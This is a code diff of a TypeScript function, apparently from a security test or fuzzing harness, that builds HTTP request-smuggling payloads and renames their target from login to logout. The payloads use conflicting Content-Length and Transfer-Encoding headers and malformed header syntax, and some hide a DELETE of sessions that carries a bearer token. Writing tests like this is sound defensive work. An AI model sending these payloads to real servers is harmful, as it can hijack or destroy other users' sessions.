@@ -249,11 +249,11 @@ function smuggling({ host }: Known, bearer: Headers): Foreign[] {
   const auth = `Host: ${host}\r\nAuthorization: ${bearer['Authorization']}\r\n`
   const inner = `DELETE /v1/sessions HTTP/1.1\r\n${auth}\r\n`
   const raw: Record<string, string> = {
-    'length and chunks': `POST /v1/login HTTP/1.1\r\n${auth}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
-    'two lengths': `POST /v1/login HTTP/1.1\r\n${auth}Content-Length: 0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
-    'length with a sign': `POST /v1/login HTTP/1.1\r\n${auth}Content-Length: +1\r\n\r\nx`,
-    'length twice in one': `POST /v1/login HTTP/1.1\r\n${auth}Content-Length: 0, 5\r\n\r\n`,
-    'chunked, twice': `POST /v1/login HTTP/1.1\r\n${auth}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`,
+    'length and chunks': `POST /v1/logout HTTP/1.1\r\n${auth}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
+    'two lengths': `POST /v1/logout HTTP/1.1\r\n${auth}Content-Length: 0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
+    'length with a sign': `POST /v1/logout HTTP/1.1\r\n${auth}Content-Length: +1\r\n\r\nx`,
+    'length twice in one': `POST /v1/logout HTTP/1.1\r\n${auth}Content-Length: 0, 5\r\n\r\n`,
+    'chunked, twice': `POST /v1/logout HTTP/1.1\r\n${auth}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`,
     'chunk size with junk': `POST /v1/sessions HTTP/1.1\r\n${auth}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
     'blank before the colon': `GET /v1/sessions HTTP/1.1\r\nHost : ${host}\r\n\r\n`,
     'folded header': `GET /v1/sessions HTTP/1.1\r\n${auth}X-A: 1\r\n Host: evil\r\nOrigin: null\r\n\r\n`,
